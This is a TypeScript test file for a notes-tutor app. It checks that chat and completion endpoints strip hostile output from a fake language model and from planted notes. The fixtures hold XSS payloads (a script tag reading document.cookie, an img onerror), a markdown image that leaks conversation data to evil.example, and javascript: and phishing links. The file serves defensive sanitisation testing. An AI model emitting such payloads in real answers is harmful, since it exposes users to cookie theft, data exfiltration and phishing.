import { AnswerSchema } from '@notetutor/contracts';
import { type FakeOpenAI, startFakeOpenAI } from '@notetutor/test-support/fake-openai-server';
import { parseSse } from '@notetutor/test-support/sse';
import { createTutor } from '@notetutor/tutor';
import { afterEach, describe, expect, it } from 'vitest';
import { knowledgeBaseOfNotes } from '../../../../packages/tutor/test/knowledge-base-fixture';
import { seedKnowledgeBase, testApp } from '../../test/test-app';

const HOSTILE = [
  'Cgroups limit how much CPU and memory a container may use [1]. ',
  '<script>alert(document.cookie)</script><img src=x onerror=alert(1)> ',
  '![x](https://evil.example/t.png?leak=conversation) ',
  '[click](javascript:alert(1)) [more](https://evil.example/phish).',
];

let fake: FakeOpenAI | undefined;
afterEach(async () => {
  await fake?.close();
  fake = undefined;
});

async function hostileApp() {
  fake = await startFakeOpenAI({ script: () => ({ type: 'stream', chunks: HOSTILE }) });
  const kb = await seedKnowledgeBase();
  const tutor = createTutor({
    knowledgeBase: () => kb,
    model: { baseURL: fake.baseURL, apiKey: 'test', model: 'fake-model', timeoutMs: 10_000, maxRetries: 0 },
  });
  return (await testApp({ tutor })).app;
}

const post = (body: unknown) => ({
  method: 'POST',
  headers: { 'content-type': 'application/json' },
  body: JSON.stringify(body),
});

function expectSafe(text: string) {
  expect(text).not.toMatch(/(?<!\\)<(script|img)|evil\.example|javascript:/);
  expect(text).toContain('Cgroups limit');
}

describe('answers from a hostile model', () => {
  it('/api/ask returns no raw HTML, no remote image, no link the notes do not have', async () => {
    const app = await hostileApp();
    const answer = AnswerSchema.parse(
      await (await app.request('/api/ask', post({ question: 'What does cgroups limit?' }))).json(),
    );
    expect(answer.engine).toBe('llm');
    expectSafe(answer.answer);
  });

  it('/api/chat streams sanitised deltas and a sanitised final answer', async () => {
    const app = await hostileApp();
    const res = await app.request(
      '/api/chat',
      post({ messages: [{ role: 'user', content: 'What does cgroups limit?' }] }),
    );
    const { messages } = parseSse(await res.text());
    const events = messages.map(
      (m) => JSON.parse(m.data) as { type: string; text?: string; answer?: { answer: string } },
    );
    const streamed = events
      .filter((e) => e.type === 'delta')
      .map((e) => e.text)
      .join('');
    expectSafe(streamed);
    const done = events.find((e) => e.type === 'done');
    expectSafe(done?.answer?.answer ?? '');
  });

  it('/v1/chat/completions (grounded) returns sanitised content, streamed or not', async () => {
    const app = await hostileApp();
    const request = {
      model: 'notes-tutor',
      messages: [{ role: 'user', content: 'What does cgroups limit?' }],
    };
    const whole = (await (await app.request('/v1/chat/completions', post(request))).json()) as {
      grounded: boolean;
      choices: Array<{ message: { content: string } }>;
    };
    expect(whole.grounded).toBe(true);
    expectSafe(whole.choices[0]?.message.content ?? '');
    const streamed = await (
      await app.request('/v1/chat/completions', post({ ...request, stream: true }))
    ).text();
    const content = parseSse(streamed)
      .messages.filter((m) => m.data !== '[DONE]')
      .map(
        (m) =>
          (JSON.parse(m.data) as { choices: Array<{ delta: { content?: string } }> }).choices[0]?.delta
            .content ?? '',
      )
      .join('');
    expectSafe(content);
  });
});

describe('answers quoting hostile notes', () => {
  it('/v1/chat/completions carries no javascript: link from the notes, in the text or the footnotes', async () => {
    // The notes parser keeps a link it does not recognise as its markdown text, so it reaches quotes verbatim.
    const notes = await knowledgeBaseOfNotes({
      'limits.md':
        '# Limits\n\n- **Cgroups** limit CPU and memory of a container, see [docs](javascript:alert(1)).\n',
    });
    try {
      const { app } = await testApp({ kb: notes.kb });
      const request = {
        model: 'notes-tutor',
        messages: [{ role: 'user', content: 'What do cgroups limit?' }],
      };
      const whole = (await (await app.request('/v1/chat/completions', post(request))).json()) as {
        choices: Array<{ message: { content: string } }>;
        citations: Array<{ quote: string }>;
      };
      const content = whole.choices[0]?.message.content ?? '';
      expect(content).toContain('Cgroups limit CPU and memory');
      expect(content).toContain('[^1]:');
      expect(content).not.toMatch(/\]\(javascript:/);
      expect(whole.citations.map((c) => c.quote).join(' ')).not.toMatch(/\]\(javascript:/);
    } finally {
      await notes.remove();
    }
  });
});
